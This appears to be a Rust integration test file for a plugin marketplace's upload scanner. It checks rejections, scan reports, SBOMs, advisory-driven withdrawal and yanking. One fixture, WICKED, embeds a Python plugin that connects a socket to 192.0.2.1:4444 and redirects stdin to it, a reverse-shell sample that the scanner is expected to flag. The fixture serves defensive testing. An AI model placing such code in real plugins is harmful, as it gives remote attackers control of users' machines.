//! What the scan makes of uploads: rejected with the rules' reasons, told on pages and in the API, and
//! judged again when advisories change.

use std::time::Duration;

use axum::http::StatusCode;
use fapilog_market::intake::scanner::ScanSettings;
use fapilog_testkit::WheelBuilder;

use crate::browser::Browser;
use crate::world::{Upload, World};

const JSON: &str = "application/vnd.pypi.simple.v1+json";

/// What a plugin that sends a shell away looks like.
const WICKED: &[u8] =
    b"import os, socket\n\n\nclass Plugin:\n    async def process(self, record):\n        \
    s = socket.socket()\n        s.connect((\"192.0.2.1\", 4444))\n        \
    os.dup2(s.fileno(), 0)\n        return record\n";

/// A plugin that opens connections, which is no harm.
const TALKING: &[u8] =
    b"import socket\n\n\nclass Plugin:\n    async def process(self, record):\n        \
    socket.create_connection((\"192.0.2.1\", 514))\n        return record\n";

fn wheel(version: &str, code: Option<&[u8]>) -> Upload {
    let mut builder = WheelBuilder::plugin("fapilog-acme", version);
    if let Some(code) = code {
        builder = builder
            .without_file("fapilog_acme/__init__.py")
            .file("fapilog_acme/__init__.py", code);
    }
    Upload::wheel(&builder)
}

async fn told(world: &World) -> serde_json::Value {
    let answer = world.get("/api/v1/plugins/fapilog-acme", "*/*").await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
    answer.json()
}

#[tokio::test]
async fn a_wicked_wheel_is_rejected_by_its_rules_and_its_publisher_sees_why() {
    let world = World::new().await;
    let mut ada = Browser::signed_up(&world, "ada").await;
    let token = ada.new_token("*").await;
    let upload = wheel("1.0", Some(WICKED));
    let answer = world.send(upload.request(&token)).await;
    assert_eq!(answer.status, StatusCode::BAD_REQUEST);
    assert!(
        answer.text().contains("[reverse-shell]"),
        "{}",
        answer.text()
    );
    let page = world.get("/simple/fapilog-acme/", JSON).await;
    assert_eq!(page.status, StatusCode::NOT_FOUND);
    let root = world.get("/simple/", JSON).await.json();
    assert_eq!(root["projects"], serde_json::json!([]));
    let file = world.get(&upload.path(), "*/*").await;
    assert_eq!(file.status, StatusCode::NOT_FOUND);
    assert_eq!(world.stored(), Vec::<String>::new());
    let settings = ada.get("/manage/fapilog-acme").await.text();
    assert!(
        settings.contains("<strong>reverse-shell</strong>"),
        "{settings}"
    );
    let mut eve = Browser::signed_up(&world, "eve").await;
    let other = eve.get("/manage/fapilog-acme").await;
    assert_eq!(other.status, StatusCode::FORBIDDEN);
    // Repaired, it is welcome under the same name.
    let answer = world.send(wheel("1.0", None).request(&token)).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
}

#[tokio::test]
async fn page_badge_and_api_tell_what_the_scan_saw_and_what_is_new_in_a_version() {
    let world = World::new().await;
    world.publish(&wheel("1.0", None)).await;
    world.publish(&wheel("1.1", Some(TALKING))).await;
    let info = told(&world).await;
    let scan = &info["versions"][0]["scan"];
    assert_eq!(scan["level"], "community");
    assert_eq!(scan["capabilities"], serde_json::json!(["network"]));
    assert_eq!(
        scan["gained"],
        serde_json::json!(["now opens network connections"])
    );
    assert_eq!(info["versions"][1]["scan"]["gained"], serde_json::json!([]));
    let file = &info["versions"][0]["files"][0];
    let path = |name: &str| {
        let url = file[name].as_str().unwrap();
        url.strip_prefix("http://market.test").unwrap().to_owned()
    };
    let report = world.get(&path("scan_report"), "*/*").await.json();
    assert_eq!(report["artifact"]["sha256"], file["sha256"]);
    assert_eq!(report["confinement"]["limits"], true);
    let bill = world.get(&path("sbom"), "*/*").await;
    assert_eq!(
        bill.header("content-type"),
        "application/vnd.cyclonedx+json"
    );
    assert_eq!(bill.json()["bomFormat"], "CycloneDX");
    assert_eq!(bill.json()["metadata"]["component"]["name"], "fapilog-acme");
    let page = world
        .get("/plugins/fapilog-acme/", "text/html")
        .await
        .text();
    assert!(page.contains("now opens network connections"), "{page}");
    let found = world
        .get("/api/v1/search?capability=network", "*/*")
        .await
        .json();
    assert_eq!(found["total"], 1, "{found}");
    let badge = world
        .get("/badges/fapilog-acme/scan.json", "*/*")
        .await
        .json();
    assert!(
        badge["message"].as_str().unwrap().starts_with("passed"),
        "{badge}"
    );
    let missing = world.get("/api/v1/files/nothing.whl/scan", "*/*").await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn what_nobody_scans_is_told_as_not_judged() {
    let world = World::with(|config| {
        config.scan = ScanSettings {
            level: None,
            ..config.scan.clone()
        };
    })
    .await;
    world.publish(&wheel("1.0", Some(WICKED))).await;
    let info = told(&world).await;
    assert_eq!(info["versions"][0]["scan"], serde_json::Value::Null);
    let page = world
        .get("/plugins/fapilog-acme/", "text/html")
        .await
        .text();
    assert!(page.contains("It was not judged."));
}

#[tokio::test]
async fn a_judge_that_cannot_be_started_publishes_nothing_and_is_tried_again() {
    let world = World::with(|config| {
        config.scan.program = Some("/bin/true".into());
        config.verdict_wait = Duration::ZERO;
    })
    .await;
    let answer = world.upload(&wheel("1.0", None)).await;
    assert_eq!(answer.status, StatusCode::ACCEPTED, "{}", answer.text());
    let id = answer.header("location");
    let row = world.until_judged(id.rsplit('/').next().unwrap()).await;
    assert_eq!(row.state, "rejected");
    assert!(row.reasons.contains("without a report"), "{}", row.reasons);
    let page = world.get("/simple/fapilog-acme/", JSON).await;
    assert_eq!(page.status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn a_new_advisory_takes_out_what_it_is_about_and_is_told() {
    let folder = tempfile::tempdir().unwrap();
    let export = folder.path().join("osv.json");
    std::fs::write(&export, advisory("fapilog-other")).unwrap();
    let world = World::with(|config| config.scan.advisories = Some(export.clone())).await;
    world.publish(&wheel("1.0", None)).await;
    world.publish(&wheel("1.1", None)).await;
    assert_eq!(world.judge_again().await, 0);
    std::fs::write(&export, advisory("fapilog-acme")).unwrap();
    assert_eq!(world.judge_again().await, 2);
    let index = world.get("/simple/fapilog-acme/", JSON).await.json();
    assert_eq!(index["versions"], serde_json::json!(["1.1"]));
    let info = told(&world).await;
    assert_eq!(info["versions"].as_array().unwrap().len(), 1);
    let resolved = world
        .get("/api/v1/resolve?core=3.0&name=fapilog-acme", "*/*")
        .await
        .json();
    assert_eq!(resolved["plugins"][0]["version"], "1.1");
    let withheld = world
        .get("/plugins/fapilog-acme/1.0/", "text/html")
        .await
        .status;
    assert_eq!(withheld, StatusCode::NOT_FOUND);
    let refused = world.upload(&wheel("1.0", None)).await;
    assert!(
        refused.text().contains("PYSEC-2026-1"),
        "{}",
        refused.text()
    );
}

fn advisory(project: &str) -> String {
    serde_json::json!({
        "id": "PYSEC-2026-1",
        "summary": "Hands out tokens",
        "modified": "2026-01-01T00:00:00Z",
        "affected": [{
            "package": {"ecosystem": "PyPI", "name": project},
            "versions": ["1.0"],
        }],
    })
    .to_string()
}

#[tokio::test]
async fn a_maintainer_yanks_a_release_with_a_reason_and_takes_it_back() {
    let world = World::new().await;
    let mut ada = Browser::signed_up(&world, "ada").await;
    let token = ada.new_token("*").await;
    for version in ["1.0", "1.1"] {
        let answer = world.send(wheel(version, None).request(&token)).await;
        assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
    }
    let yank = [
        ("version", "1.1"),
        ("act", "yank"),
        ("reason", "drops records"),
    ];
    ada.post("/manage/fapilog-acme/yank", &yank).await;
    let info = told(&world).await;
    assert_eq!(info["versions"][0]["yanked"]["reason"], "drops records");
    assert_eq!(info["latest_version"], "1.0");
    let resolved = world
        .get("/api/v1/resolve?core=3.0&name=fapilog-acme", "*/*")
        .await
        .json();
    assert_eq!(resolved["plugins"][0]["version"], "1.0");
    let page = world.get("/plugins/fapilog-acme/1.1/", "text/html").await;
    assert!(
        page.text()
            .contains("This version was yanked: drops records")
    );
    let back = [("version", "1.1"), ("act", "unyank")];
    ada.post("/manage/fapilog-acme/yank", &back).await;
    let info = told(&world).await;
    assert_eq!(info["versions"][0]["yanked"], serde_json::Value::Null);
    let unknown = [("version", "9"), ("act", "yank"), ("reason", "")];
    let answer = ada.post("/manage/fapilog-acme/yank", &unknown).await;
    assert_eq!(answer.status, StatusCode::NOT_FOUND);
    // Nothing is done by a form that does not say what.
    let vague = [("version", "1.1"), ("act", "hide")];
    let answer = ada.post("/manage/fapilog-acme/yank", &vague).await;
    assert_eq!(answer.status, StatusCode::BAD_REQUEST);
    let info = told(&world).await;
    assert_eq!(info["versions"][0]["yanked"], serde_json::Value::Null);
}
